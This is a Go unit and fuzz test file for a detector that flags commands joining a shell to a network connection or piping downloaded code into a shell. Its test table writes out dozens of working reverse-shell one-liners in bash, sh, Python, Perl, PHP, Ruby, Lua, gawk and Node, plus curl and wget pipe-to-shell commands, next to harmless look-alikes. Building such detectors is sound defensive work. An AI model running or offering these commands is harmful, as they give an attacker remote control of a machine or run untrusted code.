package enrich

import "testing"

// TestIntent: code that joins a shell to a connection, or that fetches and runs, in the spellings
// that attackers use, and what only looks like it.
func TestIntent(t *testing.T) {
	joins, fetches, nothing := intent{joinsShell: true}, intent{runsFetched: true}, intent{}
	for _, tc := range []struct {
		name, cmd string
		want      intent
	}{
		{"bash", `bash -c bash -i >& /dev/tcp/8.8.4.4/443 0>&1`, joins},
		{"bash", `bash -lc "bash -i >& /dev/tcp/8.8.4.4/443 0>&1"`, joins},
		{"sh", `sh -i 5<> /dev/tcp/8.8.4.4/443 0<&5 1>&5 2>&5`, nothing}, // the shell that reads this runs another
		{"bash", `bash -c sh -i 5<> /dev/tcp/8.8.4.4/443 0<&5 1>&5 2>&5`, joins},
		{"bash", `bash -c 0<&196;exec 196<>/dev/tcp/8.8.4.4/443; sh <&196 >&196 2>&196`, joins},
		{"bash", `bash -c exec 5<>/dev/tcp/8.8.4.4/443; cat <&5 | while read line; do $line 2>&5 >&5; done`, joins},
		{"bash", `bash -c exec 0</dev/tcp/evil.example/443; exec 1>&0; bash`, joins},
		{"bash", `bash -c echo x > /dev/tcp/10.0.0.1/80`, nothing},
		{"bash", `bash -c exec 3<>/dev/tcp/10.0.0.1/80; echo GET / >&3; cat <&3 | grep UP`, nothing},
		{"bash", `bash -c until (echo > /dev/tcp/db/5432); do sleep 1; done; exec bash`, nothing},
		{"bash", `bash -c bash -i >& /dev/tcp/127.0.0.1/443 0>&1`, nothing},
		{"sh", `sh -c rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 8.8.4.4 1234 >/tmp/f`, joins},
		{"sh", `sh -c mknod /tmp/p p; telnet 8.8.4.4 443 0</tmp/p | /bin/bash 1>/tmp/p`, joins},
		{"sh", `sh -c mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect 8.8.4.4:443 > /tmp/s`, joins},
		{"sh", `sh -c cat /tmp/f|sh -i 2>&1|nc 127.0.0.1 1234 >/tmp/f`, nothing},
		{"sh", `sh -c echo hello | nc 8.8.4.4 25; sh /etc/rc.local`, nothing},
		{"busybox", `busybox nc 8.8.4.4 443 -e sh`, joins},
		{"busybox", `busybox nc -z 8.8.4.4 443`, nothing},
		{"sudo", `sudo -u www bash -c nc 8.8.4.4 443 -e /bin/sh`, joins},
		{"python3", `python3 -c import socket,os,pty;s=socket.socket();s.connect(("8.8.4.4",443));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("/bin/sh")`, joins},
		{"python3", `python3 -c import socket;s=socket.create_connection(("10.0.0.1",80));print(s.recv(10))`, nothing},
		{"python3", `python3 -c import os;os.system("/bin/sh")`, nothing},
		{"python3", `python3 -c import socket,subprocess;s.connect(("127.0.0.1",1));subprocess.call(["/bin/sh"])`, nothing},
		{"perl", `perl -e use Socket;$i="8.8.4.4";socket(S,PF_INET,SOCK_STREAM,0);connect(S,sockaddr_in(1,inet_aton($i)));open(STDIN,">&S");exec("/bin/sh -i");`, joins},
		{"perl", `perl -MIO -e $c=new IO::Socket::INET(PeerAddr,"8.8.4.4:443");STDIN->fdopen($c,r);system$_ while<>;`, joins},
		{"php", `php -r $sock=fsockopen("8.8.4.4",443);exec("/bin/sh -i <&3 >&3 2>&3");`, joins},
		{"ruby", `ruby -rsocket -e f=TCPSocket.open("8.8.4.4",443).to_i;exec sprintf("/bin/sh -i <&%d >&%d 2>&%d",f,f,f)`, joins},
		{"lua", `lua -e require('socket');t=socket.tcp();t:connect('8.8.4.4','443');os.execute('/bin/sh -i <&3 >&3 2>&3')`, joins},
		{"gawk", `gawk BEGIN{s="/inet/tcp/0/8.8.4.4/443";while(1){s|&getline c;while((c|&getline)>0)print|&s}}`, joins},
		{"awk", `awk {print $1} /etc/hosts`, nothing},
		{"node", `node -e sh=require("child_process").spawn("/bin/sh");c=new require("net").Socket();c.connect(443,"8.8.4.4",()=>{c.pipe(sh.stdin)})`, joins},

		{"sh", `sh -c curl http://8.8.4.4/x.sh | bash`, fetches},
		{"sh", `sh -c curl -s http://8.8.4.4/x|sudo -E bash -s -- --yes`, fetches},
		{"sh", `sh -c wget -qO- http://8.8.4.4/x | sh`, fetches},
		{"sh", `sh -c (curl -fsSL http://8.8.4.4/x || wget -qO- http://8.8.4.4/x) | bash`, fetches},
		{"sh", `sh -c { curl http://8.8.4.4/x; } | tee /tmp/l | sh`, fetches},
		{"sh", `sh -c curl http://8.8.4.4/x | python3 -`, fetches},
		{"bash", `bash -c bash <(curl http://8.8.4.4/x)`, fetches},
		{"bash", `bash -c . <(curl http://8.8.4.4/x)`, fetches},
		{"bash", `bash -c sh -c "$(curl -fsSL http://8.8.4.4/x)"`, fetches},
		{"bash", "bash -c eval `wget -qO- http://8.8.4.4/x`", fetches},
		{"bash", `bash -c {curl,-s,http://8.8.4.4/x}|{bash,-s}`, fetches},
		{"sh", `sh -c curl${IFS}http://8.8.4.4/x|sh`, fetches},
		{"sh", `sh -c wget -q -O /tmp/k http://8.8.4.4/k && chmod +x /tmp/k && /tmp/k`, fetches},
		{"sh", `sh -c curl -O http://8.8.4.4/k; sh ./k`, fetches},
		{"docker", `docker exec -it web sh -c curl http://8.8.4.4/x | sh`, fetches},
		{"sh", `sh -c curl http://8.8.4.4/x | python3 -m json.tool`, nothing},
		{"sh", `sh -c curl http://8.8.4.4/x | jq . ; bash build.sh`, nothing},
		{"sh", `sh -c curl -o /tmp/k http://8.8.4.4/k; tar xf /tmp/k`, nothing},
		{"sh", `sh -c V=$(curl http://8.8.4.4/version); echo $V`, nothing},
		{"sh", `sh -c echo "to install: curl http://8.8.4.4/x | sh"`, nothing},
		{"sh", `sh -c grep -r 'bash -i >& /dev/tcp/8.8.4.4/1 0>&1' /srv`, nothing},
		{"git", `git commit -m do not curl http://8.8.4.4/x | sh`, nothing},
		{"grep", `grep -r bash -c curl http://8.8.4.4/x | sh /srv`, nothing},
		{"echo", `echo bash -i >& /dev/tcp/8.8.4.4/443 0>&1`, nothing},
		{"bash", `bash`, nothing},
		{"", ``, nothing},
	} {
		if got := intentOf(tc.name, tc.cmd); got != tc.want {
			t.Errorf("%s\n\tgot %+v; want %+v", tc.cmd, got, tc.want)
		}
	}
}

func FuzzIntent(f *testing.F) {
	f.Add("bash", "bash -c a \"$(b `c` <(d)) 'e\" {f,g}|{h} ((1<<2)) 2>&1 && (i) # j\\")
	f.Add("sh", "sh -c ((((((((($($($($($($($(")
	f.Add("0", "sh -c \"")
	f.Fuzz(func(t *testing.T, name, cmd string) {
		if got := intentOf(name, cmd); got != intentOf(name, cmd) {
			t.Error("the same command line is read in two ways")
		}
	})
}
